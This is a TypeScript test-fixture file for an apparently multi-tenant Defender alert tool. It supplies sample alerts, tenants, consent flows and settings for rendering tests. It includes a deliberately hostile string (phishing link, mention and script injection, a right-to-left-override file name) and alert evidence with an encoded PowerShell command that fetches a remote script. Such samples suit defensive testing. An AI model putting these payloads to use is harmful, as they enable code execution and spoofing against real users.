import { type Alert, DEFENDER_FOR_ENDPOINT } from "../../../services/domain/alert.ts";
import type { AlertRecord } from "../../../services/domain/alert-record.ts";
import type { ConsentJourney } from "../../../services/domain/consent-journey.ts";
import type { Evidence } from "../../../services/domain/evidence.ts";
import type { Permission } from "../../../services/domain/permission.ts";
import type { Person } from "../../../services/domain/person.ts";
import type { EffectiveSettings, SettingOrigin } from "../../../services/domain/policy-settings.ts";
import type { RemovedTenant } from "../../../services/domain/removed-tenant.ts";
import type { TenantLink } from "../../../services/domain/tenant-link.ts";
import type { TenantOverview } from "../../../services/domain/tenant-overview.ts";

export const ACCOUNT = "11111111-aaaa-4aaa-8aaa-000000000001";
export const TENANT = "22222222-bbbb-4bbb-8bbb-000000000002";
export const NOW = "2026-11-22T14:02:00.000Z";
export const LATER = "2026-11-22T14:20:00.000Z";
export const SPRING = "2026-05-03T09:30:00.000Z";

export const PRIYA: Person = { id: "p-1", name: "Priya Nair", signInName: "priya@fabrikam.example" };

/** Everything that could come alive in one line: markdown, links, mentions, tags, expressions, direction and control characters. */
export const HOSTILE =
  "[Sign in](https://evil.example/login) <at>Everyone</at> \u0024{tenantId} **bold** _it_ `code` ~~gone~~ www.evil.com evil.com <b onclick=x>\u202Egpj.exe\u0007\u2028- item &lt;a&gt; \\[x]\\(y) javascript:alert(1)";

export const REMOVED: RemovedTenant = {
  accountId: ACCOUNT,
  tenantId: TENANT,
  tenantName: "Contoso Dental GmbH",
  organizationId: "org-1",
  organizationName: "Contoso Dental",
  removedBy: PRIYA,
  removedAt: NOW,
};

/** Hostile, right to left, and much longer than any card shows. */
export const HOSTILE_LONG = `تنبيه ${HOSTILE} ${"very long words that go on and on ".repeat(60)}${HOSTILE}`;

export const DEFAULT: SettingOrigin = { level: "default", by: null, at: null };
export const BY_ACCOUNT: SettingOrigin = { level: "account", by: "Priya Nair", at: SPRING };
export const BY_TENANT: SettingOrigin = { level: "tenant", by: "Tom Okafor", at: SPRING };

const EVIDENCE: readonly Evidence[] = [
  { kind: "device", name: "FIN-LT-0231", machineId: "m1", remediation: "active" },
  { kind: "user", name: "m.keller", signInName: "m.keller@contoso-dental.example", remediation: "none" },
  {
    kind: "file",
    name: "Invoice_2026-11.pdf.exe",
    path: "C:\\Users\\m.keller\\Downloads",
    sha256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    sha1: null,
    remediation: "prevented",
  },
  {
    kind: "process",
    name: "powershell.exe",
    processId: 6112,
    commandLine: "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA http://203.0.113.7/a.ps1",
    remediation: "unremediated",
  },
  { kind: "ip", address: "203.0.113.7", remediation: "none" },
  { kind: "url", url: "https://login.contoso-dentai.example/session?id=4", remediation: "none" },
  { kind: "other", type: "registryKeyEvidence", remediation: "pendingApproval" },
];

function alertOf(changes: Partial<Alert> = {}): Alert {
  return {
    id: "da638683021_1523410211",
    title: "Suspicious PowerShell command line",
    description:
      "A suspicious PowerShell activity was observed on the machine. It may be used to install malware or to run code that an attacker controls, without a file on the disk.",
    severity: "high",
    status: "new",
    classification: null,
    determination: null,
    serviceSource: DEFENDER_FOR_ENDPOINT,
    category: "InitialAccess",
    mitreTechniques: ["T1566.001", "T1059.001"],
    assignedTo: null,
    incidentId: "924",
    portalUrl: "https://security.microsoft.com/alerts/da638683021_1523410211?tid=22222222",
    createdAt: NOW,
    updatedAt: NOW,
    firstActivityAt: "2026-11-22T13:58:12.000Z",
    resolvedAt: null,
    evidence: EVIDENCE,
    comments: [],
    unreadable: false,
    ...changes,
  };
}

export function recordOf(changes: Partial<AlertRecord> = {}, alert: Partial<Alert> = {}): AlertRecord {
  return {
    accountId: ACCOUNT,
    tenantId: TENANT,
    alert: alertOf(alert),
    baseline: false,
    revision: 2,
    settledRevision: 2,
    firstSeenAt: NOW,
    confirmedAt: LATER,
    nextSettleAt: null,
    nextAnnounceAt: null,
    autoResolve: { kind: "notResolved", reason: "off", origin: BY_TENANT },
    claim: null,
    reopened: null,
    resolution: null,
    resolveRequest: null,
    ...changes,
  };
}

export function journeyOf(changes: Partial<ConsentJourney> = {}): ConsentJourney {
  return {
    accountId: ACCOUNT,
    id: "journey-7",
    organizationId: "org-1",
    organizationName: "Contoso Dental",
    requestedBy: PRIYA,
    conversationId: "a:chat",
    cardActivityId: null,
    linkHash: "h",
    expectedDomain: "contoso-dental.example",
    expectedTenantId: null,
    confirmedTenantId: null,
    createdAt: NOW,
    expiresAt: "2026-11-29T14:02:00.000Z",
    state: "waiting",
    explanation: null,
    openedAt: null,
    grantedAt: null,
    tenant: null,
    legs: [],
    dueAt: null,
    ...changes,
  };
}

export function permissionsOf(count: number): readonly Permission[] {
  const tiers = ["core", "response", "insight"] as const;
  return Array.from({ length: count }, (_, at) => ({
    resource: at < 5 ? ("graph" as const) : ("defender" as const),
    value: at === 0 ? "SecurityAlert.ReadWrite.All" : `Machine.Purpose${at}.All`,
    otherSpellings: [],
    id: `role-${at}`,
    tier: tiers[at % 3] ?? "core",
    feature: at === 0 ? "Alerts" : `Feature ${at}`,
    endpoint: null,
    why: "Read new alerts, resolve and comment them",
    without: "No alert is resolved or commented",
    available: at % 3 === 0,
  }));
}

export function overviewOf(changes: Partial<TenantOverview> = {}, link: Partial<TenantLink> = {}): TenantOverview {
  return {
    link: {
      accountId: ACCOUNT,
      organizationId: "org-1",
      tenantId: TENANT,
      tenantName: "Contoso Dental GmbH",
      tenantDomain: "contoso-dental.example",
      linkedAt: NOW,
      linkedBy: PRIYA,
      linkedIn: "a:chat",
      state: "connected",
      trouble: null,
      granted: { graph: [], defender: [], checkedAt: NOW },
      nextCheckAt: LATER,
      ...link,
    },
    organizationName: "Contoso Dental",
    sync: {
      accountId: ACCOUNT,
      tenantId: TENANT,
      watermark: LATER,
      coverage: "2026-11-22T14:10:00.000Z",
      lastTriedAt: LATER,
      nextSyncAt: LATER,
      nextSweepAt: LATER,
      failures: 0,
    },
    proven: changes.sync !== null,
    counts: { open: 3, olderOpen: 2, total: 41 },
    ...changes,
  };
}

export function settingsOf(changes: Partial<EffectiveSettings> = {}): EffectiveSettings {
  return {
    autoResolve: { value: true, origin: DEFAULT },
    comment: { value: true, origin: BY_ACCOUNT },
    upToSeverity: { value: "high", origin: DEFAULT },
    sources: { value: [DEFENDER_FOR_ENDPOINT], origin: DEFAULT },
    holdWhileActive: { value: true, origin: DEFAULT },
    ...changes,
  };
}

/** As many of a thing as a page can hold. */
export function times<Value>(count: number, make: (at: number) => Value): readonly Value[] {
  return Array.from({ length: count }, (_, at) => make(at));
}
